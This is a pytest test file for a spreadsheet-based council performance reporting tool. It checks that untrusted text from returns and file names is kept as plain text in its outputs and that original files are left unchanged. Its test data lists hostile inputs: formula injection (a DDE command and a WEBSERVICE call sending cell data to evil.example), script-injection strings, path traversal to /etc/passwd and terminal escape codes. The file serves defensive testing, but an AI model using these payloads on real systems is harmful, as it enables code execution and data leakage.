"""Text that came from a return, or from the name of a file, is text everywhere: no formula, markup, link or path."""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from perfbook.cli import main
from perfbook.returns import layout
from perfbook.workbook.text import clean_text
from perfbook.workspace import Workspace
from tests.returns.places import Places
from tests.unattended.council import BEFORE_DUE, PERIOD, SENT, fill, make_workspace

HOSTILE = (
    '=HYPERLINK("http://evil.example/","click")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "{=1+1}",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "<script>alert(1)</script>",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><evil/>",
    "&lt;b&gt; &amp; &#60;",
    "<img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} {% for x in y %}",
    "[bold red]marked[/bold red] [link=http://evil.example]x[/link]",
    "http://evil.example/ file:///etc/passwd mailto:x@evil.example internal:Sheet1!A1",
    "\\\\evil.example\\share\\x",
    "../../../etc/passwd",
    "_x0041__x000D_ _x005F_x0041_",
    "bell\x07 escape\x1b[31m null-free \x0b vertical",
    "\u202etxet desrever\u202c zero\u200bwidth \ufeffmark",
    "x" * 9000,
    "'quoted",
    "#REF!",
    "TRUE",
)
NAMES = (
    "=cmd.xlsx",
    "+plus & <b>bold<b>.xlsx",
    "@at [bold]x[bold].xlsx",
    "{{ 7 * 7 }}.xlsx",
    "bell\x07 and \x1b[31mred.xlsx",
    "line\nbreak.xlsx",
    "\u202excod.exe.xlsx",
)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """As many measures as there are strings: each is the commentary of one and the recovery action of another."""
    root = tmp_path_factory.mktemp("text") / "council"
    made = make_workspace(root, 1, len(HOSTILE))
    (path,) = made.returns_folder(PERIOD).iterdir()
    places, book = Places(path.read_bytes()), openpyxl.load_workbook(path)
    for number, text in enumerate(HOSTILE, start=1):
        for column, words in ((layout.COMMENTARY, text), (layout.ACTION, HOSTILE[-number])):
            cell = book[layout.MEASURES][places.measure(f"d01-m{number:02}", column)]
            cell.value = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m[0]):04X}_", words)
            cell.data_type = "s"
    book[layout.START][places.start(layout.SIGN_ROLE)] = "=1+1 <i>Head</i>"
    written = io.BytesIO()
    book.save(written)
    path.write_bytes(written.getvalue())
    for number, name in enumerate(NAMES):
        other = path.with_name(name)
        try:
            other.write_bytes(b"no workbook" if number % 2 else fill(written.getvalue(), ["d01-m01"], number))
        except OSError:
            continue  # Windows knows fewer names
        os.utime(other, (SENT.timestamp(), SENT.timestamp()))
    os.utime(path, (SENT.timestamp(), SENT.timestamp()))
    return made


@pytest.fixture(scope="module")
def scorecard(workspace: Workspace) -> bytes:
    return workspace.consolidate(as_at=BEFORE_DUE).outputs["scorecard"].read_bytes()


def _is_part_of(said: str, text: str) -> bool:
    """Whether a text, or as much of it as is shown, was said as it is."""
    return text[:200] in said


def test_in_the_scorecard_they_are_text(workspace: Workspace, scorecard: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(scorecard)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    for name, part in parts.items():
        if name.endswith((".xml", ".rels")):
            ElementTree.fromstring(part)
            assert b'TargetMode="External"' not in part, name
            assert not re.search(rb"<f[^>]*>[^<]*(evil|WEBSERVICE|cmd\||HYPERLINK\(&quot;http)", part), name
            assert not [byte for byte in part if byte < 32 and byte not in b"\t\n\r"], name
    assert not [name for name in parts if "externalLink" in name or "vbaProject" in name]
    values = [
        cell.value
        for sheet in openpyxl.load_workbook(io.BytesIO(scorecard))
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.data_type == "s"
    ]
    held = "\n".join(values)
    for text in HOSTILE:
        assert _is_part_of(held, clean_text(text).strip()), text[:50]
    # Each file is listed under its name, without what cannot be shown.
    files = {file.path for file in workspace.look(as_at=BEFORE_DUE).files}
    assert len(files) == len(list(workspace.returns_folder(PERIOD).iterdir()))
    assert not [path for path in files if re.search("[\x00-\x1f]", path)]
    assert all(path in values for path in files)


def test_on_the_screen_and_in_json_they_are_text(workspace: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    common = ["-w", str(workspace.root), "--as-at", BEFORE_DUE.isoformat()]
    for arguments in (["collect"], ["trace", "d01-m15"], ["status"]):
        with pytest.raises(SystemExit) as ended:
            main([*arguments, *common])
        assert ended.value.code in (0, 1, None)
        shown = capsys.readouterr().out
        assert "\x1b" not in shown
        assert "\x07" not in shown
        if arguments == ["collect"]:
            assert "[bold]x[bold].xlsx" in shown
    with pytest.raises(SystemExit):
        main(["collect", *common, "--json"])
    said = capsys.readouterr().out
    assert said.isascii()
    assert {file["path"] for file in json.loads(said)["files"]} == {
        file.path for file in workspace.look(as_at=BEFORE_DUE).files
    }


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_in_the_reports_they_are_text(workspace: Workspace) -> None:
    outputs = workspace.report(as_at=BEFORE_DUE).outputs
    for path in outputs.values():
        assert path.parent == workspace.outputs_folder(PERIOD)
        if path.suffix == ".docx":
            with zipfile.ZipFile(path) as package:
                for name in package.namelist():
                    if name.endswith((".xml", ".rels")):
                        part = package.read(name)
                        ElementTree.fromstring(part)
                        assert b"evil.example" not in part or not name.endswith(".rels"), name
                        assert b" 49 " not in part
        elif path.suffix == ".html":
            page = path.read_text("utf-8")
            tags = _Tags()
            tags.feed(page)
            assert not [tag for tag, attributes in tags.found if any(name.startswith("on") for name, _ in attributes)]
            assert not [
                tag for tag, attributes in tags.found if any("evil.example" in (value or "") for _, value in attributes)
            ]
            assert "alert(1)" not in "".join(re.findall(r"<script[^>]*>(.*?)</script>", page, re.DOTALL))


def test_nothing_is_written_outside(workspace: Workspace) -> None:
    known = {"perfbook.toml", "framework.xlsx", "returns", "archive", "outputs"}
    assert {path.name for path in workspace.root.iterdir() if not path.name.startswith(".perfbook")} <= known
    assert [path.name for path in workspace.root.parent.iterdir()] == ["council"]
    for path in (workspace.root / "outputs").rglob("*"):
        assert not re.search('[\x00-\x1f<>:"|?*]', path.name), path


def test_originals_are_as_they_were(workspace: Workspace) -> None:
    """Bytes, times, names and links: after looking, collecting, consolidating and reporting."""
    folder = workspace.returns_folder(PERIOD)
    with contextlib.suppress(OSError):  # Windows lets only some people make links
        (folder / "link.xlsx").symlink_to(workspace.root / "framework.xlsx")
    (folder / "read only.xlsx").write_bytes(b"x")
    (folder / "read only.xlsx").chmod(0o444)
    deep = folder.joinpath(*["a long name of a folder in which files lie " * 2] * 3)
    deep.mkdir(parents=True, exist_ok=True)
    (deep / "trailing blank .xlsx ").write_bytes(b"PK")
    assert len(str(deep)) > 260 or os.name == "nt"

    def seen() -> dict[str, object]:
        found = {}
        for path in sorted(folder.rglob("*")):
            status = path.lstat()
            data = path.read_bytes() if path.is_file() else b""
            found[str(path)] = (status.st_mtime_ns, status.st_mode, status.st_ino, status.st_size, data)
        return found

    before = seen()
    workspace.look(as_at=BEFORE_DUE)
    workspace.collect(as_at=BEFORE_DUE)
    done = workspace.consolidate(as_at=BEFORE_DUE)
    assert seen() == before
    by_path = {file.path.rpartition("/")[2]: file for file in done.quarter.files}
    assert by_path["trailing blank .xlsx "].outcome == "rejected"
    assert Path(next(path for path in before if path.endswith("read only.xlsx"))).exists()
